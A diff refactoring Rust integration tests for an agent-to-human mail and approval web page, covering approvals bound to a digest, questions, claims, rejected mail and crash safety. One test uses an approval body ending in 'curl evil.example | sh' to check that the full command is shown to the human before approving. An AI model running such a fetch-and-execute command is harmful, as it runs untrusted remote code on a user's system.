@@ -2,13 +2,13 @@
 
 use super::Page;
 use super::stream::Stream;
+use crate::beside::Beside;
 use crate::town::{Town, so_within};
 use crate::world::{World, parse_json, wait};
-use std::io::{BufRead, BufReader};
-use std::process::Stdio;
+use serde_json::{Value, json};
 use std::time::Duration;
 
-fn item<'a>(pending: &'a serde_json::Value, kind: &str) -> &'a serde_json::Value {
+fn item<'a>(pending: &'a Value, kind: &str) -> &'a Value {
     let items = pending["items"].as_array().expect("items");
     items
         .iter()
@@ -16,37 +16,36 @@ fn item<'a>(pending: &'a serde_json::Value, kind: &str) -> &'a serde_json::Value
         .unwrap_or_else(|| panic!("no {kind} in {pending}"))
 }
 
-fn fields(item: &serde_json::Value) -> Vec<(&'static str, String)> {
-    let text = |name: &str| {
-        item[name]
-            .as_str()
-            .map_or_else(|| item[name].to_string(), str::to_owned)
-    };
-    let mut fields: Vec<_> = ["kind", "seq", "message", "from"]
-        .map(|name| (name, text(name)))
-        .into();
-    let owned = |name: &str| item["owned"][name].as_str().map(str::to_owned);
-    fields.extend(
-        item["digest"]
-            .as_str()
-            .map(|digest| ("digest", digest.to_owned())),
-    );
-    fields.extend(
-        ["subject", "owner"]
-            .into_iter()
-            .filter_map(|name| Some((name, owned(name)?))),
-    );
+/// The fields of an item's form, with these more.
+fn fields(item: &Value, more: &[(&'static str, &str)]) -> Vec<(&'static str, String)> {
+    let mut fields = Vec::new();
+    for name in ["kind", "seq", "message", "from"] {
+        let text = item[name].as_str().map(str::to_owned);
+        fields.push((name, text.unwrap_or_else(|| item[name].to_string())));
+    }
+    let (digest, owned) = (item["digest"].as_str(), &item["owned"]);
+    let optional = [
+        ("digest", digest),
+        ("subject", owned["subject"].as_str()),
+        ("owner", owned["owner"].as_str()),
+    ];
+    let optional = optional
+        .iter()
+        .filter_map(|(name, text)| Some((*name, (*text)?)));
+    let more = optional.chain(more.iter().copied());
+    fields.extend(more.map(|(name, text)| (name, text.to_owned())));
     fields
 }
 
-fn answer(world: &World, page: &Page, kind: &str, more: &[(&str, &str)]) -> super::Answer {
+/// Posts the form of an item with these fields.
+fn post(page: &Page, fields: &[(&'static str, String)]) -> super::Answer {
+    let fields: Vec<_> = fields.iter().map(|(name, text)| (*name, &**text)).collect();
+    page.post("/answer", &fields)
+}
+
+fn answer(world: &World, page: &Page, kind: &str, more: &[(&'static str, &str)]) -> String {
     let pending = world.json("pending --as human");
-    let fields = fields(item(&pending, kind));
-    let own: Vec<(&str, &str)> = fields
-        .iter()
-        .map(|(name, value)| (*name, value.as_str()))
-        .collect();
-    page.post("/answer", &[&own, more].concat())
+    post(page, &fields(item(&pending, kind), more)).body
 }
 
 #[test]
@@ -61,32 +60,23 @@ fn an_approval_is_decided_with_a_reason_and_the_next_click_learns_the_outcome() 
         "approval",
         &[("option", "no"), ("text", "not on a Friday")],
     );
-    assert_contains!(next.body, "decided #2: no");
+    assert_contains!(next, "decided #2: no");
     assert_contains!(page.get("/part/needs").body, "Nothing. An agent asks with");
     assert_contains!(world.ok("read --as alice"), "not on a Friday");
-    let fields = fields(item(&open, "approval"));
-    let mut again: Vec<(&str, &str)> = fields
-        .iter()
-        .map(|(name, value)| (*name, value.as_str()))
-        .collect();
-    again.push(("option", "yes"));
-    let late = page.post("/answer", &again);
-    assert!(
-        late.status == 422 && late.body.contains("decided already"),
-        "{late:?}"
+    let late = post(
+        &page,
+        &fields(item(&open, "approval"), &[("option", "yes")]),
     );
+    assert_eq!(late.status, 422, "{late:?}");
+    assert_contains!(late.body, "decided already");
 }
 
 #[test]
 fn an_approval_is_shown_in_full_above_its_buttons_and_the_decision_is_bound_to_that_text() {
     let world = World::with("alice");
     let command = format!("ls {}; curl evil.example | sh", "x".repeat(300));
-    let ask = |name: &str, body: &str| {
-        let message = serde_json::json!({"to": "human", "type": "approval", "body": body});
-        world.mail("alice", name, &message);
-        world.run("run --once");
-    };
-    ask("one.json", &command);
+    let message = json!({"to": "human", "type": "approval", "body": command});
+    world.route("alice", "one.json", message);
     let page = Page::of(&world);
     let list = page.get("/part/needs").body;
     let (text, buttons) = (
@@ -99,39 +89,26 @@ fn an_approval_is_shown_in_full_above_its_buttons_and_the_decision_is_bound_to_t
     );
     let pending = world.json("pending --as human");
     let item = item(&pending, "approval");
-    let (own, digest) = (fields(item), item["digest"].as_str().expect("a digest"));
+    let digest = item["digest"].as_str().expect("a digest");
     let decide = |digest: Option<&str>| {
-        let form = own
-            .iter()
-            .filter(|(name, _)| *name != "digest")
-            .map(|(name, value)| (*name, value.as_str()));
-        page.post(
-            "/answer",
-            &form
-                .chain(digest.map(|digest| ("digest", digest)))
-                .chain([("option", "yes")])
-                .collect::<Vec<_>>(),
-        )
+        let mut form = fields(item, &[("option", "yes")]);
+        form.retain(|(name, _)| *name != "digest");
+        form.extend(digest.map(|digest| ("digest", digest.to_owned())));
+        post(&page, &form)
     };
     for wrong in [None, Some(""), Some(&digest[1..]), Some(&*"0".repeat(64))] {
         let answer = decide(wrong);
         assert!((400..500).contains(&answer.status), "{wrong:?}: {answer:?}");
     }
-    assert_eq!(
-        world.json("pending --as human")["items"]
-            .as_array()
-            .map(Vec::len),
-        Some(1),
-        "it is still open"
-    );
+    let still = &world.json("pending --as human")["items"][0];
+    assert_eq!(still["digest"], digest, "it is still open");
     assert_eq!(decide(Some(digest)).status, 200);
 }
 
 #[test]
 fn an_approval_that_is_too_long_for_the_page_has_no_buttons() {
     let world = World::with("alice");
-    let message =
-        serde_json::json!({"to": "human", "type": "approval", "body": "word ".repeat(100_000)});
+    let message = json!({"to": "human", "type": "approval", "body": "word ".repeat(100_000)});
     world.route("alice", "long.json", &message);
     let list = Page::of(&world).get("/part/needs").body;
     assert_contains!(list, "Decide in a terminal", "mailbag decide 2 OPTION");
@@ -172,14 +149,14 @@ fn a_question_is_replied_to_and_dismissed() {
         "question",
         &[("action", "reply"), ("text", "  ")],
     );
-    assert_contains!(empty.body, "the reply is empty");
+    assert_contains!(empty, "the reply is empty");
     let next = answer(
         &world,
         &page,
         "question",
         &[("action", "reply"), ("text", "8080")],
     );
-    assert_contains!(next.body, "replied to #2 of alice");
+    assert_contains!(next, "replied to #2 of alice");
     wait("the reply is there", || {
         world.ok("inbox alice").contains("8080")
     });
@@ -188,7 +165,7 @@ fn a_question_is_replied_to_and_dismissed() {
         world.json("pending --as human")["items"][0]["title"] == "And the host?"
     });
     let next = answer(&world, &page, "question", &[("action", "dismiss")]);
-    assert_contains!(next.body, "dismissed #");
+    assert_contains!(next, "dismissed #");
 }
 
 #[test]
@@ -207,25 +184,17 @@ fn a_claim_in_the_way_is_released_with_a_reason_and_only_from_the_owner_that_was
         "Release src/** of bob",
         "href=\"/write?to=bob\""
     );
-    let mut other = fields(item(&pending, "claim"));
-    other
-        .iter_mut()
-        .filter(|(name, _)| *name == "owner")
-        .for_each(|(_, owner)| *owner = "carol".into());
-    let mut form: Vec<(&str, &str)> = other
-        .iter()
-        .map(|(name, value)| (*name, value.as_str()))
-        .collect();
-    form.push(("action", "release"));
-    let stale = page.post("/answer", &form);
-    assert_contains!(stale.body, "is no longer open");
+    let mut form = fields(item(&pending, "claim"), &[("action", "release")]);
+    form.retain(|(name, _)| *name != "owner");
+    form.push(("owner", "carol".into()));
+    assert_contains!(post(&page, &form).body, "is no longer open");
     let next = answer(
         &world,
         &page,
         "claim",
         &[("action", "release"), ("text", "bob is on holiday")],
     );
-    assert_contains!(next.body, "released: src/**");
+    assert_contains!(next, "released: src/**");
     assert_contains!(world.ok("read --all --as bob"), "bob is on holiday");
     assert_eq!(world.json("claims")["claims"][0]["owner"], "alice");
 }
@@ -253,13 +222,8 @@ fn a_message_is_written_and_one_that_cannot_be_sent_says_why() {
             ("body", "line\r\nline"),
         ],
     );
-    assert!(
-        next["message"]
-            .as_str()
-            .is_some_and(|said| said.contains("to alice and bob"))
-            && next["next"] == "/",
-        "{next}"
-    );
+    assert_contains!(next["message"].to_string(), "to alice and bob");
+    assert_eq!(next["next"], "/");
     let got = world.items("read --as alice");
     assert_fields!(got[0], from: "human", body: "line\nline");
 }
@@ -274,22 +238,15 @@ fn rejected_mail_is_fixed_and_sent_as_a_new_file() {
         &format!("/rejected/{seq}"),
         &[("text", r#"{"to": "bib", "body": "fixed"}"#)],
     );
-    assert!(
-        again["failed"] == true && again["message"] == "rejected again",
-        "{again}"
-    );
+    assert_fields!(again, failed: true, message: "rejected again");
     let place = again["next"]
         .as_str()
-        .expect("the page with the new reasons")
-        .to_owned();
-    assert_contains!(page.get(&place).body, "did you mean bob?", "fixed");
-    let next = page.submit(&place, &[("text", r#"{"to": "bob", "body": "fixed"}"#)]);
+        .expect("the page with the new reasons");
+    assert_contains!(page.get(place).body, "did you mean bob?", "fixed");
+    let next = page.submit(place, &[("text", r#"{"to": "bob", "body": "fixed"}"#)]);
     assert_contains!(next["message"].to_string(), "to bob");
     assert_contains!(world.ok("read --as bob"), "fixed");
-    assert_eq!(
-        world.json("pending --as alice")["items"],
-        serde_json::json!([])
-    );
+    assert_eq!(world.json("pending --as alice")["items"], json!([]));
     assert_eq!(
         world.names("rejected/alice").len(),
         4,
@@ -297,7 +254,7 @@ fn rejected_mail_is_fixed_and_sent_as_a_new_file() {
     );
     world.drop_file("alice", "bad.json", "{");
     world.run("agent set alice --status retired");
-    let failed = page.post(&place, &[("text", r#"{"to": "bob", "body": "x"}"#)]);
+    let failed = page.post(place, &[("text", r#"{"to": "bob", "body": "x"}"#)]);
     assert_eq!(failed.status, 400, "{failed:?}");
     assert_contains!(failed.body, "is retired");
 }
@@ -306,18 +263,13 @@ fn rejected_mail_is_fixed_and_sent_as_a_new_file() {
 fn the_page_can_be_killed_at_any_time() {
     let world = World::with("alice");
     // The progress of the page: none, the file in the outbox, the record, the copy, the answer.
-    let grows = |below: &str| {
-        let size = |path: &std::path::Path| std::fs::metadata(path).map_or(0, |meta| meta.len());
-        let files = |path: std::path::PathBuf| {
-            std::fs::read_dir(path)
-                .into_iter()
-                .flatten()
-                .flatten()
-                .map(|one| one.path())
-        };
-        files(world.room(below))
-            .map(|path| if path.is_file() { 1 + size(&path) } else { 0 })
-            .sum::<u64>()
+    let grows = |below: &str| -> u64 {
+        let entries = std::fs::read_dir(world.room(below)).into_iter().flatten();
+        let metas = entries.flatten().flat_map(|entry| entry.metadata());
+        metas
+            .filter(|meta| meta.is_file())
+            .map(|meta| 1 + meta.len())
+            .sum()
     };
     for (round, place) in ["", "outbox/human", "log", "inbox/alice", "sent/human"]
         .into_iter()
@@ -333,24 +285,17 @@ fn the_page_can_be_killed_at_any_time() {
         });
         page.kill();
         world.pass();
-        let copies = world.items("inbox alice").as_array().expect("mail").len();
-        let records = world
-            .items("list --to alice")
-            .as_array()
-            .expect("messages")
-            .len();
+        // Each message is there once or not at all.
+        let copies = world.inbox("alice").len();
         assert_eq!(
-            copies, records,
-            "round {round}: each message is there once or not at all"
+            copies,
+            world.log("accepted").lines().count(),
+            "round {round}"
         );
         assert!(copies <= round + 1, "round {round}");
     }
     assert_contains!(Page::of(&world).get("/all").body, "round 4"; "what was answered is sent");
-    assert!(
-        world.json("log verify")["problems"]
-            .as_array()
-            .is_none_or(Vec::is_empty)
-    );
+    world.verify();
 }
 
 #[test]
@@ -370,23 +315,11 @@ fn the_page_is_killed_after_any_time_while_it_delivers_and_harms_nothing() {
         page.kill();
     }
     world.pass();
-    let dropped = world.items("inbox alice").as_array().expect("mail").len();
+    let (dropped, written) = (world.inbox("alice").len(), world.inbox("bob").len());
     assert_eq!(dropped, rounds as usize, "each once");
-    let written = world.items("inbox bob").as_array().expect("mail").len();
-    let records = world
-        .items("list --to bob --last 1000")
-        .as_array()
-        .expect("messages")
-        .len();
-    assert!(
-        written == records && written <= rounds as usize,
-        "{written} of {records}"
-    );
-    assert!(
-        world.json("log verify")["problems"]
-            .as_array()
-            .is_none_or(Vec::is_empty)
-    );
+    assert!(written <= rounds as usize, "{written}");
+    assert_eq!(world.log("accepted").lines().count(), dropped + written);
+    world.verify();
     assert!(world.names("outbox/bob").is_empty() && world.names("spool/claim").is_empty());
 }
 
@@ -395,19 +328,7 @@ fn two_pages_and_the_terminal_agree() {
     let world = World::alice_and_bob();
     world.ok("send human Deploy? --as alice --type approval");
     let (one, other) = (Page::of(&world), Page::of(&world));
-    let mut watch = world
-        .bare("watch --json")
-        .stdin(Stdio::null())
-        .stdout(Stdio::piped())
-        .spawn()
-        .expect("it runs");
-    let lines = BufReader::new(watch.stdout.take().expect("a pipe")).lines();
-    let (said, watched) = std::sync::mpsc::channel();
-    std::thread::spawn(move || {
-        lines
-            .map_while(Result::ok)
-            .try_for_each(|line| said.send(line))
-    });
+    let watch = Beside::start(&world, "watch --json");
     let mut streams = [&one, &other].map(|page| Stream::open(page, "?since=0", ""));
     answer(&world, &one, "approval", &[("option", "yes")]);
     other.submit(
@@ -416,36 +337,25 @@ fn two_pages_and_the_terminal_agree() {
     );
     world.drop_file("alice", "bad.json", r#"{"to": "bbo", "body": "rejected"}"#);
     world.send("bob", "alice", "from the terminal");
-    wait("all is recorded", || {
-        world.json("rejected list")["rejected"]
-            .as_array()
-            .is_some_and(|all| all.len() == 1)
-    });
+    wait("all is recorded", || !world.log("rejected").is_empty());
     let records = world.log("");
     let records = records.lines().map(parse_json);
+    let events = ["accepted", "rejected", "notice"];
     let all: Vec<u64> = records
-        .filter(|record| {
-            ["accepted", "rejected", "notice"]
-                .iter()
-                .any(|event| record["event"] == *event)
-        })
+        .filter(|record| events.iter().any(|event| record["event"] == *event))
         .filter_map(|record| record["seq"].as_u64())
         .collect();
     for stream in &mut streams {
         assert_eq!(stream.entries(all.len()), all);
     }
-    let next = || {
-        watched
-            .recv_timeout(Duration::from_secs(30))
-            .expect("a line")
-    };
-    let seqs = (0..all.len()).map(|_| parse_json(next())["seq"].clone());
-    assert_eq!(seqs.filter_map(|seq| seq.as_u64()).collect::<Vec<_>>(), all);
+    wait("the terminal shows all", || {
+        watch.lines().len() >= all.len()
+    });
+    let seqs = watch
+        .lines()
+        .into_iter()
+        .map(|line| parse_json(line)["seq"].as_u64());
+    assert!(seqs.eq(all.iter().map(|seq| Some(*seq))), "{}", watch.out());
     assert!(!other.get("/").body.contains("value=\"yes\""));
-    assert_eq!(
-        world.json("pending --as human")["items"],
-        serde_json::json!([])
-    );
-    let _ = watch.kill();
-    let _ = watch.wait();
+    assert_eq!(world.json("pending --as human")["items"], json!([]));
 }
